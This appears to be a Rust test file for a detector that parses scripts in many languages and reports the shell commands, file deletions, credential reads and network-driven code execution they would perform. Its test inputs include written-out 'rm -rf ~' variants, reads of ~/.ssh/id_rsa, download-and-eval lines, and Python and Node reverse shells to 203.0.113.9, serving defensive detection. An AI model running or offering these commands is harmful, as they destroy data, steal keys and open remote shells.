use assize_protocol::EffectKind::{Delete, Fetch, Read, Send, Write};
use assize_protocol::{EffectKind, FlowEnd, Qualifier};

use crate::{Act, Language, acts};

/// What is seen of an opaque script.
fn seen(language: Language, text: &str) -> Vec<Act> {
    let mut all = acts(language, text);
    if language == Language::Python && !matches!(all.first(), Some(Act::Opaque(_))) {
        // What is proved is not glimpsed at.
        all = acts(language, &format!("{text}\nimport ctypes\n"));
    }
    assert!(matches!(all.first(), Some(Act::Opaque(_))), "accepted: {text}");
    all.into_iter().skip(1).collect()
}

fn line(text: &str) -> Act {
    Act::Command(text.to_owned())
}

fn touch(kind: EffectKind, path: &str, with: &'static [Qualifier]) -> Act {
    Act::Touch { kind, path: path.to_owned(), with }
}

fn all_see(language: Language, wanted: &Act, scripts: &[&str]) {
    for script in scripts {
        let seen = seen(language, script);
        assert!(seen.contains(wanted), "{script}\n  {seen:?}");
    }
}

fn none_sees(language: Language, scripts: &[&str]) {
    for script in scripts {
        assert_eq!(seen(language, script), [], "{script}");
    }
}

#[test]
fn python_hands_lines_to_a_shell_under_any_name() {
    let scripts = [
        "import os; os.system('rm -rf ~')",
        "import os as o\no.system('rm ' + '-rf ~')",
        "from os import system as s; s('rm -rf ~')",
        "from os import *\nsystem('rm -rf ~')",
        "__import__('os').system('rm -rf ~')",
        "import importlib; importlib.import_module('os').popen('rm -rf ~').read()",
        "import os; getattr(os, 'system')('rm -rf ~')",
        "import subprocess as sp\nsp.run('rm -rf ~', shell=True)",
        "import subprocess\nsubprocess.check_output(['rm -rf ~'], shell=True)",
        "from subprocess import Popen\nPopen(args='rm -rf ~', shell=True)",
        "import subprocess\ncmd = 'rm -rf'\ncmd += ' ~'\nsubprocess.call(cmd, shell=True)",
        "import os\ndef f(x):\n    os.system(f'rm -rf {\"~\"}')\n",
        "import os\nif True:\n  try:\n    os.system('rm -rf %s' % '~')\n  except OSError: pass\n",
        "import os\nclass A:\n    def f(self):\n        os.system(' '.join(['rm', '-rf', '~']))\n",
        "exec(\"import os\\nos.system('rm -rf ~')\")",
        "import os; s = os.system; s('rm -rf ~')",
    ];
    all_see(Language::Python, &line("rm -rf ~"), &scripts);
}

#[test]
fn words_in_a_list_are_quoted() {
    let scripts = [
        "import subprocess; subprocess.run(['rm', '-rf', '/etc/a b', '~'])",
        "import os; os.execvp('rm', ['rm', '-rf', '/etc/a b', '~'])",
        "import os; os.execlp('rm', 'x', '-rf', '/etc/a b', '~')",
        "import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/etc/a b', '~')",
        "import subprocess; c = ['rm']; subprocess.run(c + ['-rf', '/etc/a b', '~'], check=True)",
    ];
    all_see(Language::Python, &line("rm -rf '/etc/a b' '~'"), &scripts);
    let node = "const {spawnSync: s} = require('child_process'); s('rm', ['-rf', '/etc/a b', '~'])";
    assert_eq!(seen(Language::JavaScript, node), [line("rm -rf '/etc/a b' '~'")]);
}

#[test]
fn python_touches_files_by_name() {
    let tree: &[Qualifier] = &[Qualifier::Recursive];
    let scripts = [
        "import shutil, os; shutil.rmtree(os.path.expanduser('~/x'))",
        "from shutil import rmtree as r\nfrom pathlib import Path\nr(Path.home() / 'x')",
        "import os, shutil\nshutil.rmtree(os.environ['HOME'] + '/x')",
        "import os, shutil\nfor d in ['x', 'y']:\n    shutil.rmtree(os.path.join(os.getenv('HOME'), d))",
        "import pathlib, shutil\nshutil.rmtree(pathlib.Path('~/x').expanduser(), ignore_errors=True)",
    ];
    all_see(Language::Python, &touch(Delete, "~/x", tree), &scripts);
    for (script, wanted) in [
        ("import os; os.remove('/etc/passwd')", touch(Delete, "/etc/passwd", &[])),
        ("from pathlib import Path; Path('/etc/x').unlink()", touch(Delete, "/etc/x", &[])),
        ("import shutil; shutil.rmtree('~')", touch(Delete, "./~", tree)),
        ("import ctypes\nopen('/etc/x', 'w').write('a')", touch(Write, "/etc/x", &[])),
        (
            "import ctypes\nwith open('/etc/x', mode='a') as f:\n    f.write('a')",
            touch(Write, "/etc/x", &[Qualifier::Append]),
        ),
        (
            "import ctypes\nfrom pathlib import Path\np = Path('/etc')\n(p / 'x').write_text('a')",
            touch(Write, "/etc/x", &[]),
        ),
        (
            "import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())",
            touch(Read, "~/.ssh/id_rsa", &[]),
        ),
    ] {
        all_see(Language::Python, &wanted, &[script]);
    }
}

#[test]
fn what_comes_from_the_network_or_a_decoder_becomes_code() {
    let network = Act::Runs(FlowEnd::Network);
    let scripts = [
        "import requests; exec(requests.get('http://x.example/p').text)",
        "from urllib.request import urlopen as u\nwith u('http://x.example/p') as r:\n    exec(r.read().decode())",
        "import requests, subprocess\nc = requests.get('http://x.example').json()['c']\nsubprocess.run(c, shell=True)",
        "import socket, os\ns = socket.socket()\ns.connect(('203.0.113.9', 443))\nwhile True:\n    os.system(s.recv(99).decode())",
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('203.0.113.9',443));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
        "import socket,pty\ns=socket.socket()\ns.connect(('203.0.113.9',443))\npty.spawn('/bin/bash')",
    ];
    all_see(Language::Python, &network, &scripts);
    let scripts = [
        "fetch('http://x.example').then(r => r.text()).then(eval)",
        "const r = await fetch('http://x.example'); eval(await r.text())",
        "require('https').get('https://x.example', r => r.on('data', d => new Function(d)()))",
        "const n=require('net'),c=require('child_process').spawn('/bin/sh',[]);const k=new n.Socket();k.connect(443,'203.0.113.9',()=>{k.pipe(c.stdin)})",
    ];
    all_see(Language::JavaScript, &network, &scripts);
    all_see(Language::Ruby, &network, &["require 'open-uri'; eval URI.open('http://x.example').read"]);
    all_see(Language::Perl, &network, &["use LWP::Simple; eval get('http://x.example');"]);
    all_see(
        Language::Python,
        &Act::Runs(FlowEnd::Decoded),
        &["import base64; exec(base64.b64decode('eA=='))"],
    );
    all_see(
        Language::JavaScript,
        &Act::Runs(FlowEnd::Decoded),
        &["eval(Buffer.from('eA==', 'base64').toString())"],
    );
}

#[test]
fn addresses_are_reached() {
    let url = "https://x.example/a".to_owned();
    let get = Act::Reach(Fetch, url.clone());
    all_see(Language::Python, &get, &["import requests; print(requests.get('https://x.example/a').text)"]);
    all_see(Language::JavaScript, &get, &["fetch('https://x.example/a').then(r => r.json())"]);
    let post = Act::Reach(Send, url);
    all_see(Language::Python, &post, &["import requests; requests.post('https://x.example/a', data={})"]);
    all_see(Language::JavaScript, &post, &["fetch('https://x.example/a', {method: 'POST', body: x})"]);
}

#[test]
fn javascript_is_seen_under_any_name() {
    let scripts = [
        "require('child_process').execSync('rm -rf ~')",
        "const {execSync} = require('node:child_process'); execSync('rm' + ' -rf ~')",
        "const {exec: e} = require('child_process'); e(`rm -rf ${'~'}`, () => {})",
        "import cp from 'child_process'; cp.execSync('rm -rf ~')",
        "import * as cp from 'node:child_process'; cp.spawnSync('rm -rf ~', {shell: true})",
        "import {execSync as x} from 'child_process'; const c = 'rm -rf ~'; x(c)",
        "(await import('child_process')).execSync('rm -rf ~')",
        "import {$} from 'bun'; await $`rm -rf ~`",
        "const {$} = await import('zx'); await $`rm -rf ${'~'}`",
        "const cp = require('child_process'); const f = () => { cp['exec']('rm -rf ~') }",
        "process.mainModule.require('child_process').exec('rm -rf ~')",
    ];
    all_see(Language::JavaScript, &line("rm -rf ~"), &scripts);
    let tree: &[Qualifier] = &[Qualifier::Recursive, Qualifier::Force];
    let scripts = [
        "require('fs').rmSync(require('os').homedir() + '/x', {recursive: true, force: true})",
        "const fs = require('fs/promises'), path = require('path'); fs.rm(path.join(process.env.HOME, 'x'), {recursive: true, force: true})",
        "import {promises as fs} from 'fs'; for (const d of ['x']) { await fs.rm(`${process.env.HOME}/${d}`, {force: true, recursive: true}) }",
    ];
    all_see(Language::JavaScript, &touch(Delete, "~/x", tree), &scripts);
    let write = "const fs = require('fs'); fs.writeFileSync('/etc/x', 'a')";
    assert_eq!(seen(Language::JavaScript, write), [touch(Write, "/etc/x", &[])]);
}

#[test]
fn perl_and_ruby_are_seen() {
    let scripts = [
        "system('rm -rf ~');",
        "system \"rm -rf ~\" or die",
        "my $c = 'rm -rf ~'; exec $c;",
        "my $o = `rm -rf ~`;",
        "print qx{rm -rf ~};",
        "open(F, 'rm -rf ~|');",
        "open(my $f, '-|', 'rm -rf ~');",
        "eval \"system('rm -rf ~')\";",
    ];
    all_see(Language::Perl, &line("rm -rf ~"), &scripts);
    all_see(Language::Perl, &line("rm -rf /etc"), &["system('rm', '-rf', '/etc')", "exec qw(rm -rf /etc)"]);
    all_see(Language::Perl, &touch(Delete, "~/x", &[]), &["unlink \"$ENV{HOME}/x\"", "unlink glob('~/x')"]);
    let tree: &[Qualifier] = &[Qualifier::Recursive];
    all_see(Language::Perl, &touch(Delete, "/etc", tree), &["use File::Path; rmtree('/etc')"]);
    all_see(
        Language::Perl,
        &touch(Write, "/etc/x", &[]),
        &["open(F, '>/etc/x')", "open(my $f, '>', '/etc/x')"],
    );
    let scripts = [
        "system 'rm -rf ~'",
        "Kernel.exec('rm -rf ~')",
        "`rm -rf ~`",
        "puts %x(rm -rf ~)",
        "IO.popen('rm -rf ~')",
        "%w[a].each { |x| system \"rm -rf ~\" }",
        "eval \"system('rm -rf ~')\"",
    ];
    all_see(Language::Ruby, &line("rm -rf ~"), &scripts);
    let forced: &[Qualifier] = &[Qualifier::Recursive, Qualifier::Force];
    let scripts = [
        "require 'fileutils'; FileUtils.rm_rf(Dir.home + '/x')",
        "FileUtils.rm_rf \"#{ENV['HOME']}/x\"",
        "include FileUtils; rm_rf File.expand_path('~/x')",
        "%w[x y].each { |d| FileUtils.rm_rf(File.join(Dir.home, d)) }",
    ];
    all_see(Language::Ruby, &touch(Delete, "~/x", forced), &scripts);
    all_see(
        Language::Ruby,
        &touch(Write, "/etc/x", &[]),
        &["File.write('/etc/x', 'a')", "File.open('/etc/x', 'w') { |f| f.puts 1 }"],
    );
}

#[test]
fn what_is_not_plain_is_left_alone() {
    let scripts = [
        "import os, sys; os.system(sys.argv[1])",
        "import shutil\ndef clean(path):\n    shutil.rmtree(path)\n",
        "path = '/etc'\nimport shutil\ndef clean(path):\n    shutil.rmtree(path)\n",
        "import subprocess\nsubprocess.run(['rm', '-rf', target])",
        "class T(Base):\n    text = 'os.system(\"rm -rf ~\")'\n# os.system('rm -rf ~')\n",
        "import argparse\np = argparse.ArgumentParser()\np.parse_args()\n",
        "def open(x): return x\nclass A: pass\nopen('/etc/x')",
    ];
    none_sees(Language::Python, &scripts);
    none_sees(Language::JavaScript, &["const p = process.argv[2]; require('fs').rmSync(p)", "class A { }"]);
    none_sees(Language::Ruby, &["system(ARGV[0])", "class A; end"]);
    none_sees(Language::Perl, &["system($ARGV[0])", "my $x = shift; unlink $x"]);
}

#[test]
fn what_is_told_is_bounded() {
    use std::fmt::Write as _;
    let mut many = String::from("import os\n");
    for number in 0..150 {
        let _ = writeln!(many, "os.system('x{number}')");
    }
    assert_eq!(seen(Language::Python, &many).len(), super::ACTS);
    let mut long = String::from("import os\nx = 'aaaaaaaaaaaaaaaa'\n");
    for _ in 0..100 {
        long.push_str("x = x + x\n");
    }
    long.push_str("os.system(x)\n");
    assert_eq!(seen(Language::Python, &long), []);
    let deep = format!("import os\n{}os.system('x'){}", "(".repeat(2000), ")".repeat(2000));
    assert_eq!(seen(Language::Python, &deep), []);
}

fn rust_like() -> Language {
    Language::Plain(crate::Family::C)
}

#[test]
fn programs_that_languages_without_a_grammar_start_are_there_in_full() {
    let scripts = [
        r#"use std::process::Command; fn t() { Command::new("rm").arg("-rf").args(["~x", "/etc"]).status(); }"#,
        r#"std::process::Command::new("rm").args(&["-rf", "~x", "/etc"]).stdout(Stdio::null()).spawn()"#,
        r#"exec.Command("rm", "-rf", "~x", "/etc").Run()"#,
        r#"exec.CommandContext(ctx, "rm", "-rf", "~x", "/etc")"#,
        r#"new ProcessBuilder("rm", "-rf", "~x", "/etc").start();"#,
        r#"Runtime.getRuntime().exec(new String[]{"rm", "-rf", "~x", "/etc"})"#,
        r#"execlp("rm", "rm", "-rf")"#,
        "let p = \"~x\";\nlet d: &'static str = \"/etc\";\nCommand::new(\"rm\").arg(\"-rf\").arg(p).arg(\"/etc\").output()",
    ];
    let wanted = |acts: &[Act]| {
        acts.iter()
            .any(|act| matches!(act, Act::Command(line) if line.starts_with("rm ") && line.contains("-rf")))
    };
    for script in scripts {
        assert!(wanted(&seen(rust_like(), script)), "{script}: {:?}", seen(rust_like(), script));
    }
    let php = Language::Plain(crate::Family::Php);
    for script in
        ["<?php system('rm -rf ~');", "<?php $x = `rm -rf ~`;", "<?php shell_exec(\"rm\" . \" -rf ~\");"]
    {
        assert!(seen(php, script).contains(&line("rm -rf ~")), "{script}: {:?}", seen(php, script));
    }
}

#[test]
fn what_they_start_is_worth_a_question_when_nobody_can_see_it() {
    let scripts = [
        r"Command::new(name).status()",
        r#"let mut c = Command::new("rm"); c.arg("-rf"); c.status()"#,
        r#"use std::process::Command as C; C::new("rm")"#,
        r"exec.Command(os.Args[1]).Run()",
        "import x \"os/exec\"\nfunc f() { x.Run() }",
        "#define S system\nint main() { S(\"rm\"); }",
        r"int main() { system(argv[1]); }",
        r#"Class.forName("java.lang.Runtime")"#,
        r#"Process.Start("rm", "-rf x");"#,
        r#"var p = new Process(); p.StartInfo.FileName = "rm"; p.Start();"#,
        r#"c := exec.Command("echo"); c.Path = "/bin/rm"; c.Args = []string{"rm", "-rf", "x"}; c.Run()"#,
        r#"c := exec.Command("git", "status"); c.Args = append(c.Args[:1], "clean"); c.Run()"#,
        r#"c := exec.Command("git", "status"); c.Args[1] = "clean"; c.Run()"#,
        r#"c := &exec.Cmd{Path: "/bin/rm", Args: words}; c.Run()"#,
        r"var c exec.Cmd; c.Run()",
        r#"c := exec.Command("rm", "-rf", "x"); c.Dir = "/"; c.Run()"#,
        r#"c := exec.Command("rm", "-rf", "x"); c.Dir = ".."; c.Run()"#,
        r#"c := exec.Command("git", "status"); c.Env = append(os.Environ(), "GIT_SSH_COMMAND=x"); c.Run()"#,
        r#"Command::new("git").env("LD_PRELOAD", "x.so").status()"#,
        r#"var b = new ProcessBuilder("echo"); b.command("rm", "-rf", "x"); b.start();"#,
        r#"let home = dirs::home_dir().unwrap(); std::fs::remove_dir_all(home.join("x"))"#,
        "fn a<'a>(x: &'a str) { system(x) } fn b<'b>() {}",
    ];
    for script in scripts {
        assert!(
            seen(rust_like(), script).contains(&Act::Starts),
            "{script}: {:?}",
            seen(rust_like(), script)
        );
    }
    let php = Language::Plain(crate::Family::Php);
    for script in ["<?php $f = 'system'; $f('rm');", "<?php eval($x);", "<?php system(\"rm $x\");"] {
        assert!(seen(php, script).contains(&Act::Starts), "{script}");
    }
}

#[test]
fn files_in_places_outside_are_seen_in_them() {
    let removes = touch(Delete, "/home/dev/x", &[Qualifier::Recursive]);
    for script in [
        r#"std::fs::remove_dir_all("/home/dev/x")"#,
        r#"os.RemoveAll("/home/dev/x")"#,
        r#"FileUtils.deleteDirectory(new File("/home/dev/x"));"#,
        "p := \"/home/\" + \"dev/x\"\nos.RemoveAll(p)",
        r#"os.RemoveAll(filepath.Join("/home/dev", "x"))"#,
    ] {
        assert!(seen(rust_like(), script).contains(&removes), "{script}: {:?}", seen(rust_like(), script));
    }
    let reads = touch(Read, "/home/dev/.ssh/id_rsa", &[]);
    for script in
        [r#"fs::read_to_string("/home/dev/.ssh/id_rsa")"#, r#"os.ReadFile("/home/dev/.ssh/id_rsa")"#]
    {
        assert!(seen(rust_like(), script).contains(&reads), "{script}");
    }
}

#[test]
fn ordinary_tests_in_them_do_nothing() {
    let scripts = [
        "#[test]\nfn t() { assert_eq!(add(1, 2), 3); let c = 'x'; let s = \"a'b\"; }",
        "func TestX(t *testing.T) {\n\tdir := t.TempDir()\n\tdefer os.RemoveAll(dir)\n\tif got := Make(\"A b\"); got != \"a-b\" {\n\t\tt.Fatalf(\"got %q\", got)\n\t}\n}",
        "@Test void adds() { assertEquals(3, sum(1, 2)); // system(\"x\")\n}",
        "/* exec.Command(\"rm\") */ fun a() { val r = Regex(\"a+\"); println(\"system(x)\") }",
        "u := url.URL{}; u.Path = \"/x\"; if u.Path == \"/x\" { t.Log(os.Args) }",
        "resp, err := http.Get(srv.URL + \"/api\")",
        "http.Get(\"http://localhost:8080/x\")",
    ];
    for script in scripts {
        assert_eq!(seen(rust_like(), script), [], "{script}");
    }
}

#[test]
fn lua_starts_what_it_says_and_may_hide_it() {
    let lua = Language::Plain(crate::Family::Lua);
    assert!(seen(lua, "os.execute('rm -rf ~') -- x").contains(&line("rm -rf ~")));
    for script in [
        "os.execute 'rm'",
        "local e = os.execute e('rm')",
        "local o = os; o.execute('rm')",
        "os['execute']('rm')",
        "load('x')()",
        "local s = [[ ' ]] os.execute('rm')",
        "io.popen(x)",
        "package.loadlib('x', 'y')",
    ] {
        assert!(seen(lua, script).contains(&Act::Starts), "{script}: {:?}", seen(lua, script));
    }
    let script = "-- it's\ndescribe('a', function() it('b', function() assert.equal(1, #t) end) end)";
    assert_eq!(seen(lua, script), []);
}
